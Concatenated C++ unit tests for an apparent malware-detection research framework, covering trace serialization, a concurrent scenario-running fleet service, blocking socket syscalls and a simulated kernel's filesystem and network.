    EXPECT_EQ(io.sourceOrigins, want_io.sourceOrigins);
    EXPECT_EQ(io.targetName, want_io.targetName);
    EXPECT_EQ(io.targetType, want_io.targetType);
    EXPECT_EQ(io.targetOrigins, want_io.targetOrigins);
    EXPECT_EQ(io.viaServer, want_io.viaServer);
    EXPECT_EQ(io.serverName, want_io.serverName);
    EXPECT_EQ(io.serverOrigins, want_io.serverOrigins);
    EXPECT_EQ(io.length, want_io.length);

    ASSERT_EQ(sink.findings.size(), 1u);
    const StaticFindingEvent &f = sink.findings[0];
    const StaticFindingEvent want_f = sampleFinding();
    EXPECT_EQ(f.imagePath, want_f.imagePath);
    EXPECT_EQ(f.kind, want_f.kind);
    EXPECT_EQ(f.level, want_f.level);
    EXPECT_EQ(f.address, want_f.address);
    EXPECT_EQ(f.syscall, want_f.syscall);
    EXPECT_EQ(f.resource, want_f.resource);
    EXPECT_EQ(f.detail, want_f.detail);
}

TEST(TraceRoundTrip, EmptyTraceIsValid)
{
    std::ostringstream out;
    TraceWriter writer(out);
    writer.finish();

    std::istringstream in(out.str());
    TraceReader reader(in);
    CaptureSink sink;
    EXPECT_EQ(reader.replay(sink), 0u);
    EXPECT_TRUE(reader.atEnd());
}

TEST(TraceRoundTrip, StepwiseNextMatchesReplay)
{
    std::istringstream in(sampleTrace());
    TraceReader reader(in);
    CaptureSink sink;
    int steps = 0;
    while (reader.next(sink))
        ++steps;
    EXPECT_EQ(steps, 3);
    EXPECT_FALSE(reader.next(sink));    // idempotent at end
}

TEST(TraceWriter, StatsCountEventsAndBytes)
{
    std::ostringstream out;
    TraceWriter writer(out);
    writer.onResourceAccess(sampleAccess());
    writer.onResourceIo(sampleIo());
    writer.finish();
    EXPECT_EQ(writer.stats().events, 2u);
    EXPECT_EQ(writer.stats().bytes, out.str().size());
}

TEST(TraceWriter, EventAfterFinishIsFatal)
{
    std::ostringstream out;
    TraceWriter writer(out);
    writer.finish();
    EXPECT_THROW(writer.onResourceAccess(sampleAccess()),
                 FatalError);
}

TEST(TraceWriter, TeesToDownstream)
{
    std::ostringstream out;
    CaptureSink downstream;
    TraceWriter writer(out, &downstream);
    writer.onResourceAccess(sampleAccess());
    writer.onStaticFinding(sampleFinding());
    EXPECT_EQ(downstream.accesses.size(), 1u);
    EXPECT_EQ(downstream.findings.size(), 1u);
}

TEST(TraceReject, BadMagic)
{
    std::string bytes = sampleTrace();
    bytes[0] = 'X';
    std::istringstream in(bytes);
    EXPECT_THROW(TraceReader reader(in), FatalError);
}

TEST(TraceReject, UnsupportedVersion)
{
    std::string bytes = sampleTrace();
    // Bump the version field and fix the header CRC so only the
    // version check can object.
    bytes[8] = (char)(VERSION + 1);
    uint32_t crc = crc32(bytes.data(), 12);
    for (int i = 0; i < 4; ++i)
        bytes[12 + i] = (char)(crc >> (8 * i));
    std::istringstream in(bytes);
    EXPECT_THROW(TraceReader reader(in), FatalError);
}

TEST(TraceReject, HeaderCrcMismatch)
{
    std::string bytes = sampleTrace();
    bytes[9] ^= 0x01;   // corrupt version without fixing the CRC
    std::istringstream in(bytes);
    EXPECT_THROW(TraceReader reader(in), FatalError);
}

TEST(TraceReject, TruncatedHeader)
{
    std::string bytes = sampleTrace().substr(0, 10);
    std::istringstream in(bytes);
    EXPECT_THROW(TraceReader reader(in), FatalError);
}

TEST(TraceReject, CorruptedFramePayload)
{
    std::string bytes = sampleTrace();
    // Flip one byte in the middle of the first frame's payload
    // (well past the 16-byte header and 5-byte frame head).
    bytes[30] ^= 0x40;
    std::istringstream in(bytes);
    TraceReader reader(in);
    CaptureSink sink;
    EXPECT_THROW(reader.replay(sink), FatalError);
}

TEST(TraceReject, TruncatedMidFrame)
{
    std::string full = sampleTrace();
    std::string bytes = full.substr(0, full.size() / 2);
    std::istringstream in(bytes);
    TraceReader reader(in);
    CaptureSink sink;
    EXPECT_THROW(reader.replay(sink), FatalError);
}

TEST(TraceReject, MissingEndFrame)
{
    // Chop the End frame (1 type + 4 len + 8 payload + 4 crc = 17
    // bytes) off an otherwise intact trace: an edge capture that
    // died must not read as complete.
    std::string full = sampleTrace();
    std::string bytes = full.substr(0, full.size() - 17);
    std::istringstream in(bytes);
    TraceReader reader(in);
    CaptureSink sink;
    try {
        reader.replay(sink);
        FAIL() << "truncated trace accepted";
    } catch (const FatalError &e) {
        EXPECT_NE(std::string(e.what()).find("End"),
                  std::string::npos);
    }
    // Every intact frame before the cut was still delivered.
    EXPECT_EQ(sink.accesses.size(), 1u);
    EXPECT_EQ(sink.ios.size(), 1u);
    EXPECT_EQ(sink.findings.size(), 1u);
}

TEST(TraceFile, WritesAndReadsByPath)
{
    const std::string path = "trace_test_tmp.hthtrc";
    {
        TraceWriter writer(path);
        writer.onResourceAccess(sampleAccess());
        writer.finish();
    }
    TraceReader reader(path);
    CaptureSink sink;
    EXPECT_EQ(reader.replay(sink), 1u);
    std::remove(path.c_str());
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
