/**
 * @file
 * FleetService tests: concurrent sessions over the workload corpus
 * must reproduce the sequential results exactly (determinism),
 * respect backpressure, tick budgets and cancellation, isolate
 * per-job failures, and optionally record replayable traces.
 *
 * These tests are the primary target of the `tsan` preset: every
 * worker-pool code path runs here under contention.
 */

#include <gtest/gtest.h>

#include <atomic>
#include <condition_variable>
#include <cstdio>
#include <mutex>

#include "fleet/FleetService.hh"
#include "trace/TraceReader.hh"
#include "workloads/Exploits.hh"
#include "workloads/Macro.hh"
#include "workloads/Micro.hh"
#include "workloads/Trusted.hh"

using namespace hth;
using namespace hth::fleet;
using namespace hth::workloads;

namespace
{

std::vector<Scenario>
corpus()
{
    std::vector<Scenario> all;
    for (auto &&list :
         {executionFlowScenarios(), resourceAbuseScenarios(),
          infoFlowScenarios(), macroScenarios(),
          trustedProgramScenarios(), exploitScenarios()})
        for (auto &s : list)
            all.push_back(std::move(s));
    return all;
}

std::vector<FleetJob>
corpusJobs()
{
    std::vector<FleetJob> jobs;
    for (const Scenario &s : corpus())
        jobs.push_back(toFleetJob(s));
    return jobs;
}

/** Counts replayed events without analyzing them. */
struct CountingSink : harrier::EventSink
{
    uint64_t events = 0;
    void
    onResourceAccess(const harrier::ResourceAccessEvent &) override
    {
        ++events;
    }
    void
    onResourceIo(const harrier::ResourceIoEvent &) override
    {
        ++events;
    }
    void
    onStaticFinding(const harrier::StaticFindingEvent &) override
    {
        ++events;
    }
};

} // namespace

TEST(Fleet, MatchesSequentialReference)
{
    std::vector<Scenario> all = corpus();

    FleetConfig config;
    config.workers = 4;
    FleetReport fleet = FleetService::run(corpusJobs(), config);

    ASSERT_EQ(fleet.results.size(), all.size());
    for (size_t i = 0; i < all.size(); ++i) {
        const FleetResult &r = fleet.results[i];
        // Submission order is preserved no matter which worker ran
        // the session or when it finished.
        EXPECT_EQ(r.index, i);
        EXPECT_EQ(r.id, all[i].id);
        ASSERT_TRUE(r.completed) << r.id << ": " << r.error;

        ScenarioResult ref = runScenario(all[i]);
        EXPECT_EQ(r.report.transcript, ref.report.transcript)
            << r.id;
        EXPECT_EQ(r.report.fireTrace, ref.report.fireTrace) << r.id;
        EXPECT_EQ(r.report.warnings.size(),
                  ref.report.warnings.size())
            << r.id;
        EXPECT_EQ(r.report.flagged(), all[i].expectMalicious)
            << r.id;
    }
}

TEST(Fleet, AggregateIsDeterministicRunToRun)
{
    FleetConfig config;
    config.workers = 4;
    config.queueCapacity = 3;   // force backpressure while at it

    FleetReport a = FleetService::run(corpusJobs(), config);
    FleetReport b = FleetService::run(corpusJobs(), config);

    // Byte-identical aggregate output, whatever the interleaving.
    EXPECT_EQ(a.summary(false), b.summary(false));
    EXPECT_EQ(a.sessions, b.sessions);
    EXPECT_EQ(a.warnings, b.warnings);
    EXPECT_EQ(a.warningsByRule, b.warningsByRule);
    EXPECT_EQ(a.warningsBySeverity, b.warningsBySeverity);
    EXPECT_EQ(a.instructions, b.instructions);
    EXPECT_EQ(a.eventsAnalyzed, b.eventsAnalyzed);
    EXPECT_EQ(a.rulesFired, b.rulesFired);

    // And the per-session reports line up pairwise.
    ASSERT_EQ(a.results.size(), b.results.size());
    for (size_t i = 0; i < a.results.size(); ++i) {
        EXPECT_EQ(a.results[i].report.transcript,
                  b.results[i].report.transcript);
        EXPECT_EQ(a.results[i].report.fireTrace,
                  b.results[i].report.fireTrace);
    }
}

TEST(Fleet, AggregateCountsAreConsistent)
{
    FleetConfig config;
    config.workers = 2;
    FleetReport report = FleetService::run(corpusJobs(), config);

    uint64_t by_rule = 0;
    for (const auto &[rule, count] : report.warningsByRule)
        by_rule += count;
    uint64_t by_sev = 0;
    for (uint64_t c : report.warningsBySeverity)
        by_sev += c;
    EXPECT_EQ(report.warnings, by_rule);
    EXPECT_EQ(report.warnings, by_sev);
    EXPECT_EQ(report.sessions,
              report.completed + report.failed + report.cancelled);
    EXPECT_GT(report.flagged, 0u);
    EXPECT_GT(report.warnings, 0u);

    std::string summary = report.summary(false);
    EXPECT_NE(summary.find("fleet:"), std::string::npos);
    EXPECT_EQ(summary.find("wall:"), std::string::npos);
    EXPECT_NE(report.summary(true).find("wall:"),
              std::string::npos);
}

TEST(Fleet, TickBudgetCapsSessions)
{
    // An infinite-loop guest: without a budget it would burn the
    // full default 20M ticks. The fleet budget must cut it short.
    std::vector<Scenario> abuse = resourceAbuseScenarios();
    FleetConfig config;
    config.workers = 2;
    config.tickBudget = 5000;

    std::vector<FleetJob> jobs;
    for (const Scenario &s : abuse)
        jobs.push_back(toFleetJob(s));
    FleetReport report = FleetService::run(std::move(jobs), config);

    for (const FleetResult &r : report.results) {
        ASSERT_TRUE(r.completed) << r.id << ": " << r.error;
        EXPECT_LE(r.report.instructions, 5000u + os::Kernel::QUANTUM)
            << r.id;
    }
}

TEST(Fleet, FailedJobIsIsolated)
{
    std::vector<FleetJob> jobs;

    FleetJob bad;
    bad.id = "missing_binary";
    bad.path = "/bin/does-not-exist";
    jobs.push_back(bad);

    std::vector<Scenario> micro = executionFlowScenarios();
    jobs.push_back(toFleetJob(micro[0]));

    FleetConfig config;
    config.workers = 2;
    FleetReport report = FleetService::run(std::move(jobs), config);

    ASSERT_EQ(report.results.size(), 2u);
    EXPECT_FALSE(report.results[0].completed);
    EXPECT_NE(report.results[0].error.find("no binary"),
              std::string::npos);
    EXPECT_TRUE(report.results[1].completed)
        << report.results[1].error;
    EXPECT_EQ(report.failed, 1u);
    EXPECT_EQ(report.completed, 1u);
}

TEST(Fleet, CancelPendingDropsQueuedJobs)
{
    // One worker, and a gate job that blocks it until we say go: the
    // jobs queued behind the gate are provably still pending when
    // cancelPending() runs.
    std::mutex m;
    std::condition_variable cv;
    bool started = false;
    bool go = false;

    FleetConfig config;
    config.workers = 1;
    config.queueCapacity = 16;
    FleetService service(config);

    std::vector<Scenario> micro = executionFlowScenarios();
    FleetJob gate = toFleetJob(micro[0]);
    gate.id = "gate";
    gate.setup = [&, inner = gate.setup](os::Kernel &k) {
        {
            std::unique_lock lock(m);
            started = true;
            cv.notify_all();
            cv.wait(lock, [&] { return go; });
        }
        if (inner)
            inner(k);
    };
    service.submit(std::move(gate));

    // Only once the worker is provably inside the gate job are the
    // next five jobs guaranteed to still be queued when cancelled.
    {
        std::unique_lock lock(m);
        cv.wait(lock, [&] { return started; });
    }
    for (int i = 0; i < 5; ++i)
        service.submit(toFleetJob(micro[0]));

    service.cancelPending();
    {
        std::lock_guard lock(m);
        go = true;
    }
    cv.notify_all();

    FleetReport report = service.finish();
    ASSERT_EQ(report.results.size(), 6u);
    EXPECT_TRUE(report.results[0].completed)
        << report.results[0].error;
    for (size_t i = 1; i < 6; ++i) {
        EXPECT_TRUE(report.results[i].cancelled) << i;
        EXPECT_FALSE(report.results[i].completed) << i;
    }
    EXPECT_EQ(report.cancelled, 5u);
    EXPECT_EQ(report.completed, 1u);

    // Submissions after cancellation are cancelled immediately.
    // (A fresh service is needed: this one is finished.)
}

TEST(Fleet, BackpressureWithTinyQueue)
{
    // queueCapacity 1 forces submit() to block on nearly every call;
    // the run must still complete with all results in order.
    FleetConfig config;
    config.workers = 2;
    config.queueCapacity = 1;

    std::vector<Scenario> micro = executionFlowScenarios();
    std::vector<FleetJob> jobs;
    for (int rep = 0; rep < 4; ++rep)
        for (const Scenario &s : micro)
            jobs.push_back(toFleetJob(s));
    size_t n = jobs.size();

    FleetReport report = FleetService::run(std::move(jobs), config);
    ASSERT_EQ(report.results.size(), n);
    EXPECT_EQ(report.completed, n);
    for (size_t i = 0; i < n; ++i)
        EXPECT_EQ(report.results[i].index, i);
}

TEST(Fleet, RecordsReplayableTraces)
{
    std::vector<Scenario> micro = executionFlowScenarios();
    std::vector<FleetJob> jobs;
    std::vector<std::string> paths;
    for (size_t i = 0; i < micro.size(); ++i) {
        std::string path =
            "fleet_trace_" + std::to_string(i) + ".hthtrc";
        paths.push_back(path);
        jobs.push_back(toFleetJob(micro[i], {}, path));
    }

    FleetConfig config;
    config.workers = 4;
    FleetReport report = FleetService::run(std::move(jobs), config);

    for (size_t i = 0; i < paths.size(); ++i) {
        ASSERT_TRUE(report.results[i].completed)
            << report.results[i].error;
        trace::TraceReader reader(paths[i]);
        CountingSink sink;
        reader.replay(sink);
        EXPECT_GT(sink.events, 0u) << paths[i];
        std::remove(paths[i].c_str());
    }
}

TEST(Fleet, DestructorAbandonsCleanly)
{
    // Dropping a service with queued work must not hang or crash;
    // this is the unclean-shutdown path.
    std::vector<Scenario> micro = executionFlowScenarios();
    FleetConfig config;
    config.workers = 2;
    config.queueCapacity = 8;
    {
        FleetService service(config);
        for (int i = 0; i < 8; ++i)
            service.submit(toFleetJob(micro[i % micro.size()]));
        // No finish(): the destructor cancels and joins.
    }
    SUCCEED();
}

TEST(Fleet, TelemetryAggregatesAcrossSessions)
{
    std::vector<FleetJob> jobs = corpusJobs();
    FleetConfig config;
    config.workers = 4;
    config.queueCapacity = 2; // force some backpressure traffic

    FleetService service(config);
    for (FleetJob &job : jobs)
        service.submit(std::move(job));
    FleetReport report = service.finish();
    ASSERT_EQ(report.completed, report.sessions);

    // The aggregate is the exact counter sum over the per-session
    // snapshots (merge is commutative addition, so scheduling order
    // cannot change it).
    uint64_t syscalls = 0, instructions = 0, fires = 0;
    for (const FleetResult &r : report.results) {
        syscalls +=
            r.report.telemetry.metrics.counter("os.syscalls");
        instructions +=
            r.report.telemetry.metrics.counter("vm.instructions");
        fires += r.report.telemetry.metrics.counter("clips.fires");
    }
    const obs::MetricSnapshot &m = report.telemetry.metrics;
    EXPECT_EQ(m.counter("os.syscalls"), syscalls);
    EXPECT_EQ(m.counter("vm.instructions"), instructions);
    EXPECT_EQ(m.counter("clips.fires"), fires);
    EXPECT_GT(syscalls, 0u);

    // Fleet-level overlay: session accounting and worker activity.
    EXPECT_EQ(m.counter("fleet.sessions"), report.sessions);
    EXPECT_EQ(m.counter("fleet.completed"), report.completed);
    ASSERT_EQ(m.histograms.count("fleet.session_us"), 1u);
    EXPECT_EQ(m.histograms.at("fleet.session_us").count,
              report.sessions);
    uint64_t worker_sessions = 0;
    for (const auto &[name, value] : m.counters)
        if (name.rfind("fleet.worker.", 0) == 0 &&
            name.find(".sessions") != std::string::npos)
            worker_sessions += value;
    EXPECT_EQ(worker_sessions, report.sessions);

    // Phase time merged from every profiled session.
    EXPECT_TRUE(report.telemetry.profiled);
    EXPECT_GT(report.telemetry.phases.totalNs, 0u);
}

TEST(Fleet, ProgressAndStatusLine)
{
    std::vector<FleetJob> jobs = corpusJobs();
    jobs.resize(4);
    FleetService service({.workers = 2});
    for (FleetJob &job : jobs)
        service.submit(std::move(job));

    FleetProgress mid = service.progress();
    EXPECT_EQ(mid.submitted, 4u);
    EXPECT_LE(mid.done() + mid.queued, 4u);
    EXPECT_FALSE(service.statusLine().empty());

    FleetReport report = service.finish();
    EXPECT_EQ(report.completed, 4u);
    EXPECT_NE(report.summary(false).find("4 sessions"),
              std::string::npos);
}

TEST(Fleet, DefaultsResolveWorkersAndQueue)
{
    FleetService service{FleetConfig{}};
    EXPECT_GE(service.workers(), 1u);
    FleetReport report = service.finish();
    EXPECT_EQ(report.sessions, 0u);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
