/**
 * @file
 * Blocking-syscall restart paths: a SOCKOP_recv that blocks must be
 * re-entered as a *socketcall* (the delegate rewinds the int80 and
 * the argument registers must be restored), accept() must block
 * until a connection arrives, and Harrier must not double-count
 * events for restarted syscalls.
 */

#include <gtest/gtest.h>

#include "harrier/Harrier.hh"
#include "os/Kernel.hh"
#include "os/Libc.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::os;
using namespace hth::workloads;

namespace
{

struct CountingSink : harrier::EventSink
{
    int reads = 0;
    int accesses = 0;

    void
    onResourceAccess(const harrier::ResourceAccessEvent &) override
    {
        ++accesses;
    }
    void
    onResourceIo(const harrier::ResourceIoEvent &ev) override
    {
        if (!ev.isWrite)
            ++reads;
    }
};

} // namespace

TEST(Blocking, RecvBlocksAndRestartsAsSocketcall)
{
    Kernel kernel;
    kernel.setTaintTracking(true);
    installLibc(kernel);
    CountingSink sink;
    harrier::Harrier harrier(sink);
    harrier.attach(kernel);

    // Server: accept, recv (blocks: the client sends only after a
    // long sleep), echo what arrived to stdout.
    Gasm srv("/t/slowsrv");
    srv.dataString("addr", "LocalHost:4444");
    srv.dataSpace("buf", 32);
    srv.label("main");
    srv.entry("main");
    srv.sockCreate();
    srv.mov(Reg::Ebp, Reg::Eax);
    srv.leaSym(Reg::Edx, "addr");
    srv.sockBind(Reg::Ebp, Reg::Edx);
    srv.sockListen(Reg::Ebp);
    srv.sockAccept(Reg::Ebp);
    srv.mov(Reg::Ebp, Reg::Eax);
    srv.leaSym(Reg::Edx, "buf");
    srv.sockRecv(Reg::Ebp, Reg::Edx, 31);   // blocks here
    srv.mov(Reg::Edx, Reg::Eax);
    srv.movi(Reg::Ebx, 1);
    srv.leaSym(Reg::Ecx, "buf");
    srv.sysc(NR_write);
    srv.exit(0);
    auto server = srv.build();
    kernel.vfs().addBinary(server->path, server);

    Gasm cli("/t/slowcli");
    cli.dataString("addr", "LocalHost:4444");
    cli.dataString("msg", "belated");
    cli.label("main");
    cli.entry("main");
    cli.sleepTicks(300);
    cli.sockCreate();
    cli.mov(Reg::Ebp, Reg::Eax);
    cli.leaSym(Reg::Edx, "addr");
    cli.sockConnect(Reg::Ebp, Reg::Edx);
    cli.sleepTicks(5000);                   // let the server block
    cli.leaSym(Reg::Ecx, "msg");
    cli.movi(Reg::Edx, 7);
    cli.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
    cli.exit(0);
    auto client = cli.build();
    kernel.vfs().addBinary(client->path, client);

    Process &sp = kernel.spawn(server->path, {server->path});
    kernel.spawn(client->path, {client->path});
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(sp.stdoutData, "belated");
    // Exactly one read event despite the blocked first attempt.
    EXPECT_EQ(sink.reads, 1);
}

TEST(Blocking, AcceptBlocksUntilConnection)
{
    Kernel kernel;
    installLibc(kernel);

    Gasm srv("/t/waitsrv");
    srv.dataString("addr", "LocalHost:4545");
    srv.label("main");
    srv.entry("main");
    srv.sockCreate();
    srv.mov(Reg::Ebp, Reg::Eax);
    srv.leaSym(Reg::Edx, "addr");
    srv.sockBind(Reg::Ebp, Reg::Edx);
    srv.sockListen(Reg::Ebp);
    srv.sockAccept(Reg::Ebp);               // blocks a long while
    srv.movi(Reg::Ebx, 7);
    srv.sysc(NR_exit);
    auto server = srv.build();
    kernel.vfs().addBinary(server->path, server);

    Gasm cli("/t/latecli");
    cli.dataString("addr", "LocalHost:4545");
    cli.label("main");
    cli.entry("main");
    cli.sleepTicks(20000);
    cli.sockCreate();
    cli.mov(Reg::Ebp, Reg::Eax);
    cli.leaSym(Reg::Edx, "addr");
    cli.sockConnect(Reg::Ebp, Reg::Edx);
    cli.exit(0);
    auto client = cli.build();
    kernel.vfs().addBinary(client->path, client);

    Process &sp = kernel.spawn(server->path, {server->path});
    kernel.spawn(client->path, {client->path});
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(sp.exitCode, 7);
}

TEST(Blocking, RecvEofWhenPeerCloses)
{
    Kernel kernel;
    installLibc(kernel);

    Gasm srv("/t/eofsrv");
    srv.dataString("addr", "LocalHost:4646");
    srv.dataSpace("buf", 8);
    srv.label("main");
    srv.entry("main");
    srv.sockCreate();
    srv.mov(Reg::Ebp, Reg::Eax);
    srv.leaSym(Reg::Edx, "addr");
    srv.sockBind(Reg::Ebp, Reg::Edx);
    srv.sockListen(Reg::Ebp);
    srv.sockAccept(Reg::Ebp);
    srv.mov(Reg::Ebp, Reg::Eax);
    srv.leaSym(Reg::Edx, "buf");
    srv.sockRecv(Reg::Ebp, Reg::Edx, 8);    // peer sends nothing
    srv.mov(Reg::Ebx, Reg::Eax);            // exit code = recv result
    srv.sysc(NR_exit);
    auto server = srv.build();
    kernel.vfs().addBinary(server->path, server);

    Gasm cli("/t/quietcli");
    cli.dataString("addr", "LocalHost:4646");
    cli.label("main");
    cli.entry("main");
    cli.sleepTicks(300);
    cli.sockCreate();
    cli.mov(Reg::Ebp, Reg::Eax);
    cli.leaSym(Reg::Edx, "addr");
    cli.sockConnect(Reg::Ebp, Reg::Edx);
    cli.sleepTicks(2000);
    cli.closeFd(Reg::Ebp);                  // hang up silently
    cli.exit(0);
    auto client = cli.build();
    kernel.vfs().addBinary(client->path, client);

    Process &sp = kernel.spawn(server->path, {server->path});
    kernel.spawn(client->path, {client->path});
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(sp.exitCode, 0);              // EOF, not a hang
}

//
// Harrier configuration knobs
//

TEST(HarrierConfig, ReadForwardingCanBeDisabled)
{
    Kernel kernel;
    kernel.setTaintTracking(true);
    installLibc(kernel);
    CountingSink sink;
    harrier::HarrierConfig config;
    config.forwardReads = false;
    harrier::Harrier harrier(sink, config);
    harrier.attach(kernel);

    Gasm a("/t/reader");
    a.dataString("path", "/f");
    a.dataSpace("buf", 8);
    a.label("main");
    a.entry("main");
    a.openSym("path", GO_RDONLY);
    a.mov(Reg::Ebp, Reg::Eax);
    a.readFd(Reg::Ebp, "buf", 8);
    a.exit(0);
    auto image = a.build();
    kernel.vfs().addBinary(image->path, image);
    kernel.vfs().addFile("/f", "data");
    kernel.spawn(image->path, {image->path});
    kernel.run();
    EXPECT_EQ(sink.reads, 0);
    EXPECT_GT(sink.accesses, 0);    // open/close still reported
}

TEST(HarrierConfig, TimeScaleAppliesToEventTimes)
{
    Kernel kernel;
    installLibc(kernel);

    struct TimeSink : harrier::EventSink
    {
        uint64_t lastTime = 0;
        void
        onResourceAccess(
            const harrier::ResourceAccessEvent &ev) override
        {
            lastTime = ev.ctx.time;
        }
        void
        onResourceIo(const harrier::ResourceIoEvent &) override
        {
        }
    } sink;

    harrier::HarrierConfig config;
    config.timeScale = 1;       // raw ticks
    harrier::Harrier harrier(sink, config);
    harrier.attach(kernel);

    Gasm a("/t/timer");
    a.dataString("path", "/out");
    a.label("main");
    a.entry("main");
    a.sleepTicks(5000);
    a.creatSym("path");
    a.exit(0);
    auto image = a.build();
    kernel.vfs().addBinary(image->path, image);
    kernel.spawn(image->path, {image->path});
    kernel.run();
    EXPECT_GE(sink.lastTime, 5000u);
}

int
main(int argc, char **argv)
{
    ::testing::InitGoogleTest(&argc, argv);
    return RUN_ALL_TESTS();
}
