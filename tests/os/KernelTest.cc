/**
 * @file
 * Unit tests for the simulated OS: VFS, network fabric, process
 * lifecycle, the syscall layer, blocking IO and the simulated libc.
 */

#include <gtest/gtest.h>

#include "os/Kernel.hh"
#include "os/Libc.hh"
#include "workloads/GuestLib.hh"

using namespace hth;
using namespace hth::os;
using namespace hth::workloads;
using taint::SourceType;
using taint::TagStore;

//
// VFS
//

TEST(Vfs, FilesAndFifos)
{
    Vfs vfs;
    EXPECT_FALSE(vfs.exists("/a"));
    auto f = vfs.addFile("/a", "hello");
    EXPECT_TRUE(vfs.exists("/a"));
    EXPECT_EQ(vfs.lookup("/a"), f);
    EXPECT_EQ(f->content.size(), 5u);
    EXPECT_EQ(f->kind, VfsNode::Kind::File);

    auto p = vfs.createFifo("/p");
    EXPECT_EQ(p->kind, VfsNode::Kind::Fifo);

    EXPECT_TRUE(vfs.remove("/a"));
    EXPECT_FALSE(vfs.remove("/a"));
    EXPECT_EQ(vfs.lookup("/a"), nullptr);
    EXPECT_EQ(vfs.paths(), std::vector<std::string>{"/p"});
}

TEST(Vfs, CreateFileTruncatesExisting)
{
    Vfs vfs;
    vfs.addFile("/a", "old-contents");
    auto fresh = vfs.createFile("/a");
    EXPECT_TRUE(fresh->content.empty());
}

//
// Network
//

TEST(Net, DnsAndCanonical)
{
    Network net;
    std::string addr = net.addHost("duero");
    EXPECT_EQ(net.resolve("duero"), addr);
    EXPECT_EQ(net.resolve("duero"), net.addHost("duero")); // stable
    EXPECT_EQ(net.resolve("unknown"), "");
    EXPECT_EQ(net.hostOf(addr), "duero");
    EXPECT_EQ(net.canonical(addr + ":80"), "duero:80");
    EXPECT_EQ(net.canonical(addr), "duero");
    EXPECT_EQ(net.canonical("plain:99"), "plain:99");
}

TEST(Net, ConnectionRefusedWithoutListener)
{
    Network net;
    auto sock = std::make_shared<Socket>();
    EXPECT_FALSE(net.connect(sock, "nobody:1"));
}

TEST(Net, RemoteServerScript)
{
    Network net;
    RemotePeer peer;
    peer.name = "srv:1";
    std::string seen;
    peer.onConnect = [](RemoteConn &c) { c.send("hello"); };
    peer.onData = [&seen](RemoteConn &c, const std::string &d) {
        seen += d;
        c.send("ack");
    };
    net.addRemoteServer("srv:1", peer);

    auto sock = std::make_shared<Socket>();
    ASSERT_TRUE(net.connect(sock, "srv:1"));
    EXPECT_EQ(sock->peerAddr, "srv:1");
    EXPECT_EQ(std::string(sock->inbox.begin(), sock->inbox.end()),
              "hello");
    sock->inbox.clear();
    const char *msg = "ping";
    net.deliver(*sock, (const uint8_t *)msg, 4);
    EXPECT_EQ(seen, "ping");
    EXPECT_EQ(std::string(sock->inbox.begin(), sock->inbox.end()),
              "ack");
}

TEST(Net, GuestToGuestLoopback)
{
    Network net;
    auto listener = std::make_shared<Socket>();
    listener->listening = true;
    listener->localAddr = "LocalHost:7";
    net.registerListener("LocalHost:7", listener);

    auto client = std::make_shared<Socket>();
    ASSERT_TRUE(net.connect(client, "LocalHost:7"));
    ASSERT_EQ(listener->pendingAccept.size(), 1u);
    auto server_side = listener->pendingAccept.front();

    const char *msg = "abc";
    net.deliver(*client, (const uint8_t *)msg, 3);
    EXPECT_EQ(std::string(server_side->inbox.begin(),
                          server_side->inbox.end()),
              "abc");
    net.deliver(*server_side, (const uint8_t *)msg, 3);
    EXPECT_EQ(client->inbox.size(), 3u);

    net.close(*client);
    EXPECT_TRUE(server_side->peerClosed);
}

TEST(Net, RemoteClientWiredAtListen)
{
    Network net;
    RemotePeer attacker;
    attacker.name = "gw:9";
    attacker.onConnect = [](RemoteConn &c) { c.send("cmd"); };
    net.addRemoteClient("LocalHost:5", attacker);

    auto listener = std::make_shared<Socket>();
    listener->listening = true;
    net.registerListener("LocalHost:5", listener);
    ASSERT_EQ(listener->pendingAccept.size(), 1u);
    auto conn = listener->pendingAccept.front();
    EXPECT_EQ(conn->peerAddr, "gw:9");
    EXPECT_EQ(std::string(conn->inbox.begin(), conn->inbox.end()),
              "cmd");
}

//
// Kernel fixture: spawns small guests and inspects the world.
//

class KernelTest : public ::testing::Test
{
  protected:
    KernelTest()
    {
        kernel.setTaintTracking(true);
        os::installLibc(kernel);
    }

    Process &
    start(Gasm &a, std::vector<std::string> argv = {},
          std::vector<std::string> env = {})
    {
        auto image = a.build();
        kernel.vfs().addBinary(image->path, image);
        if (argv.empty())
            argv = {image->path};
        return kernel.spawn(image->path, argv, env);
    }

    Kernel kernel;
};

TEST_F(KernelTest, HelloStdout)
{
    Gasm a("/t/hello");
    a.dataString("msg", "hello\n");
    a.label("main");
    a.entry("main");
    a.writeSym(1, "msg", 6);
    a.exit(0);
    Process &p = start(a);
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(p.stdoutData, "hello\n");
    EXPECT_EQ(p.exitCode, 0);
    EXPECT_EQ(p.state, ProcState::Zombie);
}

TEST_F(KernelTest, ArgvOnInitialStackTaggedUserInput)
{
    // Echo argv[1] to stdout; verify content and USER_INPUT taint.
    Gasm a("/t/echoargv");
    a.dataSpace("argv_slot", 4);
    a.label("main");
    a.entry("main");
    a.loadArgv(1);
    a.mov(Reg::Ecx, Reg::Eax);
    a.movi(Reg::Ebx, 1);
    a.movi(Reg::Edx, 4);
    a.sysc(NR_write);
    a.exit(0);
    Process &p = start(a, {"/t/echoargv", "abcd"});
    EXPECT_EQ(kernel.run(), RunStatus::Done);
    EXPECT_EQ(p.stdoutData, "abcd");
    // The write event carried USER_INPUT data tags — verified at the
    // monitor level; here check the stack shadow directly.
    // (The machine is reset by exit; taint checked via monitor tests.)
}

TEST_F(KernelTest, OpenReadWriteClose)
{
    Gasm a("/t/rw");
    a.dataString("path", "/data/f");
    a.dataSpace("buf", 16);
    a.label("main");
    a.entry("main");
    a.openSym("path", GO_RDONLY);
    a.mov(Reg::Ebp, Reg::Eax);
    a.readFd(Reg::Ebp, "buf", 16);
    a.mov(Reg::Edi, Reg::Eax);
    a.closeFd(Reg::Ebp);
    a.movi(Reg::Ebx, 1);
    a.leaSym(Reg::Ecx, "buf");
    a.mov(Reg::Edx, Reg::Edi);
    a.sysc(NR_write);
    a.exit(0);
    kernel.vfs().addFile("/data/f", "contents");
